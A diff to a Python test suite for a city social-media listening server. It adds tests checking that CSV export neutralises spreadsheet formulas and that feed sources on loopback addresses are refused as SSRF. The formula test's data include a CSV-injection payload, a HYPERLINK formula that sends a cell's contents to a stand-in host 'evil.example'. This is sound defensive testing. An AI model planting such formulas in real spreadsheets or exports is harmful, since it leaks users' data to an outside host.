@@ -5,8 +5,10 @@ VK and Telegram uploads with wrong shapes, saved queries and the analysis
 of stored posts.
 """
 import copy
+import csv
 import gzip
 import http.server
+import io
 import json
 import os
 import sqlite3
@@ -114,8 +116,8 @@ class Feeds(http.server.BaseHTTPRequestHandler):
         self.wfile.write(body)
 
 
-class TestListen(ServerTestCase):
-    city = LISTEN_CITY
+class FeedsOnLoopback(ServerTestCase):
+    """A server with an administrator "boss" and Feeds on 127.0.0.1."""
 
     @classmethod
     def setUpClass(cls):
@@ -128,6 +130,12 @@ class TestListen(ServerTestCase):
     def tearDownClass(cls):
         super().tearDownClass()
         cls.feeds.shutdown()
+
+
+class TestListen(FeedsOnLoopback):
+    city = LISTEN_CITY
+    # The feed servers are on loopback, refused without this.
+    serve_args = ("--fetch-allow-private",)
 
     def admin(self):
         return Session(self, "boss")
@@ -186,9 +194,9 @@ class TestListen(ServerTestCase):
         page = s.get("/listen", {"sentiment": "negative"})
         self.assertEqual(page.status, 200)
         self.assertIn("Свободы", page.text())
-        csv = s.get("/listen.csv", {"query": str(qid)})
-        self.assertEqual(csv.status, 200)
-        self.assertIn("ул. Свободы, 12", csv.text())
+        table = s.get("/listen.csv", {"query": str(qid)})
+        self.assertEqual(table.status, 200)
+        self.assertIn("ул. Свободы, 12", table.text())
 
     def test_formats_and_limits(self):
         s = self.admin()
@@ -252,6 +260,44 @@ class TestListen(ServerTestCase):
                                   json.dumps(doc).encode())])
         return self.fetch("POST", "/api/v1/posts/import", body,
                           {"Content-Type": ctype})
+
+    def test_csv_defuses_formulas(self):
+        """A post whose text starts with = + - @, a tab or a CR reaches the
+        CSV with an apostrophe before it: a spreadsheet shows it and does
+        not run it; quotes, commas and line breaks stay RFC 4180."""
+        s = self.admin()
+        r = s.post("/api/v1/sources", {"name": "formulas",
+                                       "kind": "telegram"})
+        self.assertEqual(r.status, 201, r)
+        texts = ['=HYPERLINK("http://evil.example/?x="&A1,"яма")',
+                 "\t=1+2 яма во дворе", "\r=1+2 яма на дороге",
+                 "+7 ям на улице", "-1 фонарь", "@SUM(1) лужа",
+                 'обычная, "с кавычками"\nи строкой']
+        tg = {"name": "Формулы", "type": "public_supergroup", "id": 11,
+              "messages": [{"id": i + 1, "type": "message",
+                            "date_unixtime": "1781503200",
+                            "from_id": "user%d" % (i + 1), "text": t}
+                           for i, t in enumerate(texts)]}
+        r = self.upload("formulas", tg)
+        self.assertEqual(r.status, 200, r)
+        src = self.sources(s)["formulas"]
+        r = s.get("/listen.csv", {"source": str(src["id"])})
+        self.assertEqual(r.status, 200, r)
+        rows = {x["author"]: x for x in csv.DictReader(
+            io.StringIO(r.text(), newline=""))}
+        got = {rows["user%d" % (i + 1)]["text"] for i in range(len(texts))}
+        posts = s.get("/api/v1/posts.json", {"source": src["id"]}).json()
+        stored = {p["id"]: p["text"] for p in posts["posts"]}
+        self.assertEqual(len(stored), len(texts))
+        for t in stored.values():
+            if t[0] in "=+-@\t\r":
+                self.assertIn("'" + t, got)
+            else:
+                self.assertIn(t, got)
+        self.assertTrue(any(t[0] in "\t\r" for t in stored.values()),
+                        stored)
+        for row in rows.values():
+            self.assertNotIn(row["text"][0], "=+-@\t\r")
 
     def test_uploads(self):
         s = self.admin()
@@ -357,8 +403,11 @@ class TestListen(ServerTestCase):
         self.assertIsNone(by["user3"]["district"])
         page = s.get("/listen/posts/%d" % by["user1"]["id"])
         self.assertIn("Кировский район", page.text())
-        csv = s.get("/listen.csv", {"source": str(srcs["city-tg"]["id"])})
-        self.assertIn("\"\",\"Кировский район\"", csv.text())
+        r = s.get("/listen.csv", {"source": str(srcs["city-tg"]["id"])})
+        rows = {x["author"]: x for x in csv.DictReader(
+            io.StringIO(r.text(), newline=""))}
+        self.assertEqual(rows["user1"]["place"], "")
+        self.assertEqual(rows["user1"]["district"], "Кировский район")
 
 
     def test_admin_page(self):
@@ -415,3 +464,40 @@ class TestListen(ServerTestCase):
 
 if __name__ == "__main__":
     unittest.main()
+
+
+class TestListenRefusesPrivate(FeedsOnLoopback):
+    """Without --fetch-allow-private a source may not reach the server's own
+    or its network's addresses (SSRF): neither by an address nor by a name
+    that resolves to one; the source's health says why."""
+
+    def test_loopback_refused(self):
+        s = Session(self, "boss")
+        port = self.feeds.server_port
+        seen = len(Feeds.seen)
+        for name, host in (("own", "127.0.0.1"), ("named", "localhost")):
+            r = s.post("/api/v1/sources", {
+                "name": name, "kind": "rss", "interval": "60",
+                "url": "http://%s:%d/rss" % (host, port)})
+            self.assertEqual(r.status, 201, r)
+        deadline = time.monotonic() + 30
+        while time.monotonic() < deadline:
+            src = {x["name"]: x for x in
+                   s.get("/api/v1/sources.json").json()}
+            if src["own"]["fetches"] >= 1 and src["named"]["fetches"] >= 1:
+                break
+            time.sleep(0.05)
+        else:
+            self.fail("the sources were not fetched")
+        self.assertEqual(src["own"]["last_error"],
+                         "address not allowed: 127.0.0.1 is a loopback "
+                         "address")
+        self.assertRegex(src["named"]["last_error"],
+                         r"^address not allowed: (127\.0\.0\.1|::1) is a "
+                         r"loopback address$")
+        self.assertEqual(src["own"]["posts"], 0)
+        self.assertEqual(len(Feeds.seen), seen)     # never connected
+        page = s.get("/listen/sources")
+        self.assertEqual(page.status, 200)
+        self.assertIn("address not allowed: 127.0.0.1 is a loopback address",
+                      page.text())
